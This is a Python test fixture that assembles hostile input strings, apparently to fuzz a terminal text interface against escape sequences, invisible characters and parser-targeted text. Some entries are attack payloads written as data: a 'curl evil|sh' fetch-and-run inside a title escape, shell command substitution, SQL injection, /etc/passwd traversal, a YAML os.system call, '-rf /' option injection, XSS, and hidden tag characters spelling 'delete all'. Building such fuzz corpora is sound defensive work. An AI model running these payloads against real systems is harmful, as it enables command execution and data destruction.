"""What strangers write: the corpus, and classes that are not in it, also every character that controls or hides."""

from __future__ import annotations

import json
import sys
import unicodedata
from pathlib import Path

ENTRIES = json.loads((Path(__file__).parent / "hostile.json").read_text(encoding="utf-8"))
CORPUS: list[str] = [
    entry["text"] or bytes.fromhex(entry["bytes"]).decode("utf-8", "surrogateescape") for entry in ENTRIES
]

_UNSEEN = [
    chr(code) for code in range(sys.maxunicode + 1) if unicodedata.category(chr(code)) in ("Cc", "Cf", "Zl", "Zp")
]
_BLANK = [chr(code) for code in range(sys.maxunicode + 1) if unicodedata.category(chr(code)) == "Zs"]
_MARKS = [chr(code) for code in range(0x300, 0x20000) if unicodedata.category(chr(code)) in ("Mn", "Me", "Mc")]

MORE: dict[str, str] = {
    # what a terminal answers, or keeps
    "asks where the cursor is": "x\x1b[6n\x1b[5n\x1b[?6n",
    "asks for colours": "\x1b]10;?\x07\x1b]11;?\x1b\\\x1b]4;1;?\x07",
    "asks for the title": "\x1b]2;curl evil|sh\x07\x1b[21t\x1b[20t",
    "asks for a termcap string": "\x1bP+q544e\x1b\\\x1bP$qm\x1b\\",
    "asks for modes": "\x1b[?2026$p\x1b[?u\x1b[>q\x1b[=c\x1b[>c",
    "sets kitty keys": "\x1b[>31u\x1b[=5;1u\x1b[>4;2m",
    "saves and restores": "\x1b7\x1b8\x1b[s\x1b[u\x1b[?1048h\x1b[?47h\x1b[?1049l",
    "is an 8-bit sequence": "\x9b6n\x9b31m\x9d52;c;aGk=\x9c\x90q\x9c\x9fG\x9c\x98x\x9c",
    "is a sequence in pieces": "\x1b",
    "ends in an introducer": "text\x1b]",
    "begins as the end of one": "\x1b\\text\x07",
    "shifts out": "\x0e\x0flqqk\x1b(0lqqk\x1bNa\x1bOb",
    "is a tab flood": "\t" * 3000,
    "is a mouse report": "\x1b[<0;10;10M\x1b[M !!\x1b[I\x1b[O",
    "ends a paste": "a\x1b[201~q\x1b[200~b",
    # what hides or turns
    **{f"unseen {i}": "".join(_UNSEEN[i : i + 40]) for i in range(0, len(_UNSEEN), 40)},
    "every blank": "".join(_BLANK) + "x" + "".join(_BLANK),
    "tags spell a word": "ok" + "".join(chr(0xE0000 + ord(char)) for char in "delete all"),
    "selectors": "a\ufe0f\ufe0e\U000e0100\u180b",
    "looks like nothing": "\u2800\u3164\uffa0\u115f\u1160\u17b4\u180e",
    "turns within": "a\u2066b\u2067c\u2068d\u2069e\u200f\u200e\u061cf",
    "no characters": "\ufffe\uffff\ufdd0\U0001fffe\U0010ffff\ufff9x\ufffay\ufffb",
    "halves": "\ud83d x \ude00 \udc80\udcff",
    "halves the wrong way round": "\ude00\ud83d",
    "private": "\ue000\uf8ff\U000f0000\U00100000",
    # what is wider or higher than it says
    "every mark on one letter": "a" + "".join(_MARKS[:2000]),
    "marks without a letter": "\u0301\u20dd\u20e3\u0489" * 30,
    "is very wide": "\ufdfd\u2e3b\U00012031\u0bf5" * 40,
    "letters that double": "\uff21\u3000\u4e00\U00020000" * 60,
    "families and flags": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20 + "\U0001f1f3\U0001f1f1" * 20,
    "hands of every colour": "\U0001f44d\U0001f3fb\U0001f44d\U0001f3ff" * 20,
    "right to left": "\u05d0\u05d1\u05d2 \u0627\u0644\u0633\u0644\u0627\u0645 123 abc",
    "stacked": "\u0e01\u0e33\u0e49\u0e01\u0e33\u0e49 \u0915\u094d\u0937\u093f \u1100\u1161\u11a8",
    "one long word": "x" * 20_000,
    "one long word of wide ones": "\u4e00" * 10_000,
    "many lines": "\n".join(map(str, range(3000))),
    "only line ends": "\r\n\n\r\x85\u2028\u2029\v\f" * 200,
    # what another program acts on
    "fills a place": "{customer} {eta} {0.__class__} {} %s %n $(id) `id` ${IFS}",
    "is markup": "[$primary]x[/] [@click=app.quit]y[/] [link='file:///etc/passwd']z[/] [not closed",
    "is Markdown": "# x\n- [ ] y\n```\n<img src=x onerror=alert(1)>\n| a | b |\n|---|---|",
    "is a header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "is a query": "'; DROP TABLE drafts; -- \x00",
    "is a quotation": "> I will call you at 04:00\n> in 20 minutes",
    "is a path": "../../../etc/passwd\0.txt",
    "is YAML": "!!python/object/apply:os.system ['id']",
    "is an option": "--help -rf / -oProxyCommand=id",
    "is JSON": '{"a": ' * 400 + "1" + "}" * 400,
    "digits of others": "\u0664:\u0660\u0660 \u096a \uff14\uff1a\uff10\uff10 \u00b2\u2167",
    "opens a link": "data:text/html,<script>x</script> javascript:alert(1) vbscript:x file://host/x \\\\host\\x",
}
EVERY: list[str] = [*CORPUS, *MORE.values()]
